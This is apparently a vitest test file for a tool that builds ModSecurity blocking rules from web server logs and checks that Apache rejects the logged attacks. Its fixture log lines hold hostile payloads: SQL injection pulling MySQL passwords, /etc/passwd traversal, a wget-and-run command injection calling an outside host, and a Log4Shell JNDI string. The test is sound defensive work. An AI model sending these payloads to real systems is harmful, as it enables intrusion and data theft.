import { existsSync } from 'node:fs'
import { dirname } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { NO_FILTER } from '../../../src/engine/columns/filter.ts'
import { exactRuleOf } from '../../../src/jobs/actions/exact-rule.ts'
import type { Questions } from '../../../src/jobs/questions.ts'
import { HOSTILE } from '../../export/hostile.ts'
import { apart, fileOf, installed, run, runApart } from '../../export/programs.ts'
import { questionsOf } from '../questions-of.ts'

const MODULES = '/usr/lib/apache2/modules'
const NAMES = ['mpm_event', 'authz_core', 'unique_id', 'security2']

const percent = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')

const line = (target: string, more: { status?: number; method?: string; agent?: string } = {}) =>
  `203.0.113.7 - - [21/Nov/2026:02:00:00 +0000] "${more.method ?? 'GET'} ${target} HTTP/1.1" ${more.status ?? 404} 1 "-" "${more.agent ?? '-'}"\n`

const UNION = "/shop/item.php?lang=en&id=17'+UNION+SELECT+user,password+FROM+mysql.user--+-"
const TARGETS = [
  UNION,
  '/shop/item.php?id=18%27%20union%20select%20user%2Cpassword%20from%20mysql.user--%20-&lang=de',
  '/shop/item.php?id=19&lang=en',
  '/a?q=%253Cscript%253Ealert(1)%253C/script%253E',
  '/a?f[%24x]=../../../../etc/passwd',
  '/cgi-bin/../../../../etc/passwd',
  '/?;wget+http://203.0.113.99/x.sh;sh+x.sh',
  '/.env',
  ...HOSTILE.map((text) => `/h?q=${percent(text)}%00../../etc/passwd`),
]
const TEXT = [
  ...TARGETS.map((target) => line(target)),
  line('/', { agent: '${jndi:ldap://203.0.113.99/a}' }),
  line('/wp-login.php', { method: 'POST' }),
  line('/', { status: 200 }),
].join('')

let questions: Questions
let ids: number[]
beforeAll(async () => {
  questions = await questionsOf(TEXT)
  ids = [...questions.rows(NO_FILTER, 'file', false, 0, Infinity)].map(({ id }) => id)
}, 60_000)

const of = (i: number) => exactRuleOf(questions, ids[i] ?? -1, 0)
function textOf(i: number): string {
  const made = of(i)
  if (made.kind === 'none') throw new Error(made.why)
  return made.text
}
const rules = (): string[] =>
  ids.flatMap((_, i) => {
    const made = of(i)
    return made.kind === 'rule' ? made.text : []
  })

/** A configuration of Apache with these lines, listening where only its own namespace is. */
function configOf(lines: string): { main: string; dir: string } {
  const dir = dirname(fileOf('x', ''))
  const loads = NAMES.map((name) => {
    const file = name === 'security2' ? 'mod_security2' : `mod_${name}`
    return `LoadModule ${name}_module ${MODULES}/${file}.so\n`
  })
  const main = `ServerRoot ${dir}\nServerName a.example\nListen 127.0.0.1:8099\nPidFile ${dir}/pid\nErrorLog ${dir}/e\nDocumentRoot ${dir}\n<Directory />\nRequire all granted\n</Directory>\n${loads.join('')}SecRuleEngine On\nSecDataDir ${dir}\nInclude ${fileOf('b.conf', lines)}\n`
  return { main: fileOf('a.conf', main), dir }
}

describe('a rule of one request', () => {
  it('names method, path and the shape of the parameter that carried the payload', () => {
    const [, , first, second, third] = textOf(0).split('\n')
    expect(first).toMatch(
      /^SecRule REQUEST_METHOD "@streq GET" "id:9[5-9]\d{3},phase:1,t:none,deny,status:403,log,msg:'Spoor: sqli\/[a-z-]+',tag:'spoor',chain"$/,
    )
    expect(second).toBe(
      String.raw`  SecRule REQUEST_FILENAME "@rx ^/shop/item\x2ephp$" "t:none,t:urlDecodeUni,t:normalizePath,chain"`,
    )
    expect(third).toContain(String.raw`SecRule ARGS_GET:id "@rx ^\d{1,20}\x27[\x09-\x0d\x20]+union`)
    expect(third).toMatch(/-\$" "t:none,t:lowercase"$/)
  })

  it('is tried on the case: the same shape in another writing, not the ordinary request', () =>
    expect(of(0)).toMatchObject({ attacks: 2, ordinary: 0 }))

  it.each([
    [3, 'ARGS_GET:q', 't:none,t:urlDecodeUni,t:lowercase'],
    [4, 'ARGS_GET "@rx', 't:none,t:lowercase'],
    [5, 'REQUEST_URI_RAW', 't:none,t:urlDecodeUni"'],
    [6, 'QUERY_STRING', 't:lowercase'],
    [7, 'REQUEST_FILENAME', 't:normalizePath"'],
    [TARGETS.length, 'REQUEST_HEADERS:User-Agent', 't:none,t:lowercase'],
  ])('of request %d looks at %s', (i, variable, decoding) => {
    expect(textOf(i)).toContain(variable)
    expect(textOf(i)).toContain(decoding)
  })

  it('is none where nothing shows what was wrong, and none for what is not there', () => {
    expect(of(TARGETS.length + 2)).toEqual({ kind: 'none', why: 'payload' })
    expect(exactRuleOf(questions, 1e9, 0)).toEqual({ kind: 'none', why: 'request' })
  })

  it('holds nothing of a log but letters, numbers and codes', () => {
    const texts = rules()
    expect(texts.length).toBeGreaterThan(HOSTILE.length)
    for (const text of texts)
      for (const one of text.split('\n').slice(2, -1))
        expect(one).toMatch(
          /^ *SecRule [A-Z_]+(?::[\w.-]+)? "@(?:streq [A-Z]+|rx [\w/\\$^{}[\]()?*+|:,-]+)" "[\w:,' /-]+"$/,
        )
  })

  it.skipIf(!existsSync(`${MODULES}/mod_security2.so`))('is taken by Apache, all at once', () => {
    const unique = new Map(rules().map((text) => [/id:(\d+)/.exec(text)?.[1], text]))
    const checked = run('apache2', ['-t', '-f', configOf([...unique.values()].join('')).main])
    expect(checked.code, checked.out).toBe(0)
  })

  it.skipIf(!existsSync(`${MODULES}/mod_security2.so`) || !apart('python3') || !installed('ip'))(
    'turns away what it was made of, and lets others through',
    () => {
      const unique = new Map(rules().map((text) => [/id:(\d+)/.exec(text)?.[1], text]))
      const { main, dir } = configOf([...unique.values()].join(''))
      const asked = [...TARGETS, '/shop/item.php?id=20&lang=en', '/a?q=script', '/']
      const script = `
import http.client, json, subprocess, sys, time
for target in json.load(open(sys.argv[1])):
    for attempt in range(50):
        try:
            c = http.client.HTTPConnection("127.0.0.1", 8099, timeout=5)
            c._validate_path = lambda url: None
            c.request("GET", target)
            print(c.getresponse().status)
            break
        except ConnectionRefusedError:
            time.sleep(0.1)
`
      const { out } = runApart([
        'sh',
        '-c',
        `ip link set lo up; apache2 -X -f ${main} >/dev/null 2>&1 & python3 ${fileOf('ask.py', script)} ${fileOf('asked.json', JSON.stringify(asked))}; kill $(cat ${dir}/pid); wait`,
      ])
      const answers = out.trim().split('\n').map(Number)
      const expected = asked.map((target, i) =>
        i < TARGETS.length && of(i).kind === 'rule' ? `403 ${target}` : `other ${target}`,
      )
      expect(asked.map((target, i) => `${answers[i] === 403 ? '403' : 'other'} ${target}`)).toEqual(
        expected,
      )
    },
    60_000,
  )
})
